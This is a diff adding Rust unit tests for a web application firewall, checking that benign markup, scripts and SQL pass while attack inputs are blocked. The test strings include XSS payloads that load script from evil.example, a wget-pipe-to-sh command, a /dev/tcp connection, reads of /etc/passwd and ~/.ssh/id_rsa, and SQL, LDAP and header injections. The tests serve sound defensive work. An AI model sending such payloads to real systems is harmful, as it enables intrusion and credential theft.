@@ -520,3 +520,119 @@ fn a_comment_glued_to_text_shellshock_lookalikes_and_markdown_lines_are_not_atta
     assert!(blocked_category(&outcome(&waf, "/get?x=%28%29+%7B+%3A%3B%7D%3B+%2Fbin%2Fid"), Category::Rce));
     assert!(blocked_category(&json_post(&waf, r#"{"body": "x\r\nSet-Cookie: a=b"}"#), Category::Protocol));
 }
+
+#[test]
+fn markup_with_only_inert_attributes_is_weak_but_markup_that_can_act_is_critical() {
+    let waf = waf_with("{}");
+    for body in [
+        r#"{"title": "How to use <script type=module> in 2024"}"#,
+        r#"{"html": "<p style=\"color: #333; font-size: 14px\">Thanks!</p><a href=\"https://x.example/a?b=1\">more</a>"}"#,
+        r#"{"text": "Use `<input type=\"email\">` for e-mail fields"}"#,
+        r#"{"doc": "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r#"{"t": "<script src=//evil.example/x.js>"}"#,
+        r#"{"t": "<meta charset=\"UTF-7\">"}"#,
+        r#"{"t": "<p style=\"background:url(javascript:alert(1))\">x</p>"}"#,
+        r#"{"t": "`<script src=\"https://evil.example/x.js\">`"}"#,
+        r#"{"t": "<a href=\"javascript:alert(1)\">x</a>"}"#,
+        r#"{"t": "<div class=\"alert\" onclick=\"go()\">x</div>"}"#,
+    ] {
+        assert!(blocked_category(&json_post(&waf, body), Category::Xss), "{body}");
+    }
+}
+
+#[test]
+fn selectors_home_dotfiles_and_slashed_words_are_not_comments_or_system_paths() {
+    let waf = waf_with("{}");
+    for body in [
+        r#"{"c": "the snippet document.querySelector('#app .item') returns null -- add defer"}"#,
+        r#"{"c": "try export EDITOR=nano in your ~/.bashrc"}"#,
+        r#"{"c": "lol yes/no/maybe?? :)"}"#,
+        r#"{"c": "He said \"it's done\" -- but it wasn't."}"#,
+        r#"{"c": "O'Reilly; Smith, J.; \"Data\" (2nd ed.)"}"#,
+        r#"{"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    // `process.env` is a member, not the `.env` file (Node.js's rule 3401 still reads it).
+    let o = json_post(&waf, r#"{"c": "process.env.NODE_ENV"}"#);
+    assert!(!o.matches.iter().any(|m| m.rule_id == 3001), "{o:?}");
+    for t in [
+        "/p?u=admin%27%23",
+        "/p?u=admin%27+%23+x",
+        "/p?f=%2Fhome%2Fkim%2F.bashrc",
+        "/p?f=..%2F.ssh%2Fid_rsa",
+        "/p?c=%3Bcat+%2Fb%3Fn%2Fc%3Ft",
+        "/p?x=data:text/html;base64,PHNjcmlwdD4=",
+        "/p?x=data:image/svg%2bxml;base64,PHN2Zz4=",
+    ] {
+        assert!(outcome(&waf, t).blocked, "{t}");
+    }
+}
+
+#[test]
+fn programs_by_design_are_one_weak_signal_but_what_reaches_the_system_is_critical() {
+    let waf = waf_with("{}");
+    for body in [
+        // A shell script that sets options first, a Dockerfile, a cron line, a script whose
+        // service command uses /etc/.
+        r##"{"s": "#!/usr/bin/env bash\nset -euo pipefail\ndocker image ls | grep none | xargs -r docker rmi\n"}"##,
+        r#"{"s": "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n"}"#,
+        r#"{"s": "0 2 * * 0 /usr/bin/find /tmp -mtime +7 -delete"}"#,
+        r##"{"s": "#!/bin/sh\nset -e\nlogrotate -f /etc/logrotate.d/app\nsystemctl reload nginx"}"##,
+        r#"{"s": "ssh -i ~/.ssh/id_ed25519 deploy@10.0.0.12"}"#,
+        // Code: a template literal, an `if a == b`, `System.out`.
+        r#"{"s": "useEffect(() => {\n  fetch(`/api/users?page=${page}`)\n    .then(r => r.json());\n}, [page]);\n"}"#,
+        r#"{"s": "def main():\n    pass\n\nif __name__ == '__main__':\n    main()\n"}"#,
+        r#"{"s": "System.out.println(\"debug\");"}"#,
+        // An SQL console: a whole statement.
+        r#"{"sql": "SELECT date_trunc('day', created_at) AS day, count(*) FROM signups WHERE created_at >= '2024-05-01' GROUP BY 1 ORDER BY 1"}"#,
+        r#"{"sql": "SELECT id FROM t WHERE created_at > now() - interval '7 days';"}"#,
+        r#"{"f": "=SUMIFS(C:C, B:B, \">=\"&DATE(2024,1,1))"}"#,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r#"{"s": "cat /etc/subuid"}"#,
+        r#"{"s": "gunzip -c /var/log/secure.gz"}"#,
+        r#"{"s": "bash -c \"echo test\""}"#,
+        r#"{"s": "exec 5<>/dev/tcp/8.8.8.8/80"}"#,
+        r#"{"s": "cd /tmp && wget http://x.example/a | sh"}"#,
+        r#"{"s": "set -e; cat /etc/passwd"}"#,
+        r#"{"q": "1 order by 5--"}"#,
+        r#"{"q": "x' or 1=1 order by 1"}"#,
+        r#"{"q": "for /f %i in (a.txt) do echo %i"}"#,
+        r#"{"q": "${cmd}"}"#,
+    ] {
+        assert!(json_post(&waf, body).blocked, "{body}");
+    }
+}
+
+#[test]
+fn text_bodies_that_are_json_are_read_as_json() {
+    let waf = waf_with("{}");
+    let report = r#"{"csp-report": {"document-uri": "https://a.example/", "source-file": "https://a.example/", "line-number": 14}}"#;
+    for ct in ["application/csp-report", "text/plain"] {
+        let o = post("/csp", ct, report, &waf);
+        assert!(!o.blocked, "{ct}: {o:?}");
+    }
+    let o = post("/csp", "text/plain", r#"{"q": "1' or '1'='1"}"#, &waf);
+    assert!(blocked_category(&o, Category::Sqli), "{o:?}");
+}
+
+#[test]
+fn count_star_is_not_an_ldap_filter() {
+    let waf = waf_with("{}");
+    let o = json_post(&waf, r#"{"q": "status >= 3 and count(*) > 1"}"#);
+    assert!(!o.matches.iter().any(|m| m.rule_id == 1016), "{o:?}");
+    for q in ["*)(uid=*))(|(uid=*", "admin)(&(objectclass=*))", "x)(|(password=*))"] {
+        let o = json_post(&waf, &format!(r#"{{"q": "{q}"}}"#));
+        assert!(o.matches.iter().any(|m| m.rule_id == 1016), "{q}: {o:?}");
+    }
+}
